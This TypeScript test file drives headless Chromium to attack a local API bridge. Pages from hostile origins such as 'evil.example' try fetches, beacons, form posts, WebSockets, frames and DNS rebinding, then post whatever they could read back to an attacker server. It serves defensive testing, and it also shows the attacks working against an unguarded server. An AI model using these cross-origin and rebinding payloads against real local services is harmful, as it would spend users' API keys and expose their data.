/**
 * A real browser, headless Chromium, tries to use a running bridge from pages of other origins: fetches with and
 * without a content type, beacons, forms, streams, WebSockets, scripts, frames, and names that are rebound to this
 * machine. The same attacks reach a server without guards, which shows that they work.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type RequestListener, type ServerResponse } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test, type TestContext } from 'node:test';
import { isRecord, parseJson } from '../../src/base/json';
import { attempt } from '../../src/base/thrown';
import { startBuiltBridge } from '../support/cli/built-bridge';

const CHROMIUM = ['chromium-headless-shell', 'chromium', 'chromium-browser', 'google-chrome']
  .find((name) => spawnSync(name, ['--version']).status === 0);
const OPTIONS = { timeout: 180_000, skip: CHROMIUM === undefined && 'there is no Chromium on the PATH' };

/** Scripts of a page; `target` is the address of the bridge. Each resolves with what the page could read. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a fetch of JSON': `fetch(target + '/v1/responses', { method: 'POST', headers: { 'content-type': 'application/json' },
    body }).then((r) => r.text())`,
  'a fetch without a content type': `fetch(target + '/v1/responses', { method: 'POST', body: new Blob([body]) })
    .then((r) => r.text())`,
  'a fetch without a content type that cannot read': `fetch(target + '/v1/responses',
    { method: 'POST', mode: 'no-cors', body: new Blob([body]) }).then((r) => r.text())`,
  'a fetch of text': `fetch(target + '/v1/responses', { method: 'POST', mode: 'no-cors', body }).then((r) => r.text())`,
  'a fetch of a chat': `fetch(target + '/v1/chat/completions', { method: 'POST', mode: 'no-cors', body: new Blob([
    '{"model":"m","messages":[{"role":"user","content":"Hi"}]}']) }).then((r) => r.text())`,
  'a fetch with a token': `fetch(target + '/v1/responses', { method: 'POST', headers: { authorization: 'Bearer x' },
    body }).then((r) => r.text())`,
  'a beacon': `Promise.resolve(String(navigator.sendBeacon(target + '/v1/responses', new Blob([body]))) && '')`,
  'an XMLHttpRequest': `new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', target +
    '/v1/responses'); x.onload = () => done(x.responseText); x.onerror = () => done(''); x.send(body); })`,
  'a form of plain text': `submit(target + '/v1/responses', 'text/plain', '{"model":"m","input":"', '"}')`,
  'a form of fields': `submit(target + '/v1/responses', 'application/x-www-form-urlencoded', 'input', 'Hi')`,
  'a form with parts': `submit(target + '/v1/conversations', 'multipart/form-data', 'items', '[]')`,
  'the list of models': `fetch(target + '/v1/models').then((r) => r.text())`,
  'the health of the bridge': `fetch(target + '/health').then((r) => r.text())`,
  'a stream of events': `new Promise((done) => { const s = new EventSource(target + '/launches');
    s.onopen = () => done('open'); s.onerror = () => done(''); })`,
  'a WebSocket': `new Promise((done) => { const s = new WebSocket(target.replace('http', 'ws') + '/v1/responses');
    s.onopen = () => done('open'); s.onerror = () => done(''); })`,
  'a script': `new Promise((done) => { const s = document.createElement('script'); s.src = target + '/v1/models';
    s.onload = () => done('loaded'); s.onerror = () => done(''); document.head.append(s); })`,
  'a page in a frame': `new Promise((done) => { const f = document.createElement('iframe'); f.src = target + '/health';
    f.onload = () => { try { done(f.contentDocument.body.innerText) } catch { done('') } };
    document.body.append(f); })`,
};

const ATTACK_TABLE = Object.entries(ATTACKS)
  .map(([name, code]) => `${JSON.stringify(name)}: () => ${code}`).join(',\n');

/** A page that runs the attacks one after the other and reports what it could read. */
const renderPage = (target: string, report: string): string => `<!doctype html><body><script>
const target = ${JSON.stringify(target)};
const body = '{"model":"m","input":"Hi","stream":true}';
const submit = (action, enctype, name, value) => new Promise((done) => {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { action, method: 'POST', enctype, target: frame.name });
  const field = document.createElement('textarea'); field.name = name; field.value = value; form.append(field);
  document.body.append(form); form.submit(); frame.onload = () => done('');
});
const attacks = {${ATTACK_TABLE}};
(async () => {
  const seen = {};
  for (const [name, attack] of Object.entries(attacks)) {
    const late = new Promise((done) => setTimeout(done, 5000, ''));
    seen[name] = await Promise.race([attack(), late]).catch(() => '');
  }
  await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
})();
</script>`;

const listen = async (context: TestContext, listener: RequestListener) => {
  const server = createServer(listener);
  await once(server.listen(0, '127.0.0.1'), 'listening');
  context.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return { server, port: (server.address() as AddressInfo).port };
};

async function readText(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const piece of request.setEncoding('utf8')) text += piece;
  return text;
}

/** A provider that counts the requests that spend the key. */
async function startProvider(context: TestContext) {
  const requests: string[] = [];
  const { port } = await listen(context, (request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end('data: {"choices":[{"index":0,"delta":{"content":"spent"},"finish_reason":"stop"}]}\n\n');
  });
  return { url: `http://127.0.0.1:${port}/v1`, requests };
}

/** A server without guards that counts the requests that such a bridge would run. */
async function startNaiveServer(context: TestContext) {
  const turns: string[] = [];
  const { port } = await listen(context, (request, response) => void readText(request).then((text) => {
    if (request.method === 'POST' && text.includes('Hi')) turns.push(String(request.headers['content-type'] ?? 'none'));
    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('spent');
  }));
  return { port, turns };
}

type Seen = Readonly<Record<string, unknown>>;

/**
 * Opens the URL `page` in Chromium. @returns the report of the page
 * @param proxy port of a proxy that decides where requests go, like a name server that the attacker controls
 */
async function runPage(context: TestContext, page: string, report: Promise<Seen>, proxy?: number): Promise<Seen> {
  const profile = mkdtempSync(join(tmpdir(), 'codex-bridge-browser-'));
  const args = [
    '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--disable-background-networking',
    `--user-data-dir=${profile}`, '--host-resolver-rules=MAP *.example 127.0.0.1', '--remote-debugging-port=0',
    ...(proxy === undefined
      ? ['--no-proxy-server']
      : [`--proxy-server=127.0.0.1:${proxy}`, '--proxy-bypass-list=<-loopback>']),
    page,
  ];
  // A group of its own: the command may be a shell script, which leaves the browser running when it is killed.
  const child = spawn(CHROMIUM ?? '', args, { stdio: 'ignore', detached: true });
  const ended = once(child, 'exit');
  context.after(async () => {
    attempt(() => process.kill(-(child.pid ?? NaN), 'SIGKILL'));
    await ended;
    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
  });
  return Promise.race([report, ended.then(() => Promise.reject(new Error('Chromium ended without a report.')))]);
}

/** Serves the page at any path, and receives its report. */
async function startAttacker(context: TestContext, target: () => string) {
  let take = (_seen: Seen): void => undefined;
  const report = new Promise<Seen>((resolve) => (take = resolve));
  const serve = (request: IncomingMessage, response: ServerResponse): void => void readText(request).then((text) => {
    if (request.method === 'POST') {
      const seen = parseJson(text);
      if (isRecord(seen)) take(seen);
      return response.end();
    }
    const { port } = server.address() as AddressInfo;
    const page = renderPage(target(), `http://127.0.0.1:${port}/`);
    return response.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  const { server, port } = await listen(context, serve);
  return { port, report, serve };
}

/** What a page may read from a bridge that rejects it: nothing but the rejection. */
function assertNothingSeen(seen: Seen, isSameOrigin = false): void {
  assert.deepEqual(Object.keys(seen).sort(), Object.keys(ATTACKS).sort());
  for (const [name, text] of Object.entries(seen)) {
    const isRefusal = isSameOrigin && /"code":"(?:forbidden|unsupported_media_type)"/.test(String(text));
    assert.ok(text === '' || isRefusal, `${name} could read ${String(text).slice(0, 300)}`);
  }
}

/** Where the page comes from, as the browser sees it: another site, or another port of this machine. */
const ORIGINS: Readonly<Record<string, (port: number) => string>> = {
  'another site': (port) => `http://evil.example:${port}/`,
  'a development server of this machine': (port) => `http://localhost:${port}/`,
  'another port of the same address': (port) => `http://127.0.0.1:${port}/`,
};

describe('a page in Chromium', () => {
  for (const [name, origin] of Object.entries(ORIGINS)) {
    test(`of ${name} spends no key and reads nothing`, OPTIONS, async (context) => {
      const provider = await startProvider(context);
      const bridge = await startBuiltBridge(context, { upstream: provider.url });
      const attacker = await startAttacker(context, () => `http://127.0.0.1:${bridge.port}`);
      assertNothingSeen(await runPage(context, origin(attacker.port), attacker.report));
      assert.deepEqual(provider.requests, []);
      assert.match(bridge.output(), /Rejected a request/);
    });
  }

  test('whose name is rebound to this machine cannot use the key or read anything', OPTIONS, async (context) => {
    const provider = await startProvider(context);
    const bridge = await startBuiltBridge(context, { upstream: provider.url });
    // The page and its target have one origin: the browser sees no cross-origin request at all.
    const target = `http://rebound.example:${bridge.port}`;
    const attacker = await startAttacker(context, () => target);
    const proxy = await startRebinding(context, attacker, bridge.port);
    assertNothingSeen(await runPage(context, `${target}/page`, attacker.report, proxy), true);
    assert.deepEqual(provider.requests, []);
    assert.match(bridge.output(), /Rejected a request to the host/);
  });

  test('of an allowed origin may use the bridge', OPTIONS, async (context) => {
    const provider = await startProvider(context);
    const attacker = await startAttacker(context, () => `http://127.0.0.1:${bridge.port}`);
    const flags = ['--allow-origin', `http://friend.example:${attacker.port}`];
    const bridge = await startBuiltBridge(context, { upstream: provider.url, flags });
    const seen = await runPage(context, `http://friend.example:${attacker.port}/`, attacker.report);
    assert.match(String(seen['a fetch of JSON']), /response\.completed/);
    assert.match(String(seen['a fetch without a content type']), /"code":"unsupported_media_type"/);
  });

  test('reaches a server without guards, so the attacks work', OPTIONS, async (context) => {
    const naive = await startNaiveServer(context);
    const attacker = await startAttacker(context, () => `http://127.0.0.1:${naive.port}`);
    const seen = await runPage(context, `http://evil.example:${attacker.port}/`, attacker.report);
    for (const type of ['application/json', 'none', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded'])
      assert.ok(naive.turns.includes(type), `no request of type ${type} arrived: ${naive.turns.join(', ')}`);
    assert.equal(seen['a fetch of JSON'], 'spent');
  });
});

/** A proxy that simulates DNS rebinding: a name leads to the attacker for the page itself, and then to the bridge. */
async function startRebinding(
  context: TestContext, attacker: Awaited<ReturnType<typeof startAttacker>>, bridgePort: number,
): Promise<number> {
  const { port, server } = await listen(context, (request, response) => {
    const url = new URL(request.url ?? '/', 'http://x');
    if (url.pathname === '/page' || url.port === String(attacker.port)) return attacker.serve(request, response);
    // What the browser would send to the rebound address: a path in place of the URL, and the Host of the page.
    const upstream = connect(bridgePort, '127.0.0.1');
    upstream.on('error', () => response.destroy());
    const { rawHeaders } = request;
    const headers = rawHeaders.flatMap((name, at) => (at % 2 === 0 ? [`${name}: ${rawHeaders[at + 1] ?? ''}`] : []));
    const own = headers.filter((line) => !/^(?:proxy-)?connection:/i.test(line));
    upstream.write([`${request.method} ${url.pathname} HTTP/1.1`, ...own, 'connection: close', '', ''].join('\r\n'));
    request.pipe(upstream, { end: false });
    upstream.pipe(response.socket ?? response);
    return undefined;
  });
  server.on('connect', (_request, socket) => {
    const upstream = connect(bridgePort, '127.0.0.1');
    socket.write('HTTP/1.1 200 OK\r\n\r\n');
    socket.pipe(upstream).pipe(socket);
    for (const end of [socket, upstream]) end.on('error', () => end.destroy());
  });
  return port;
}
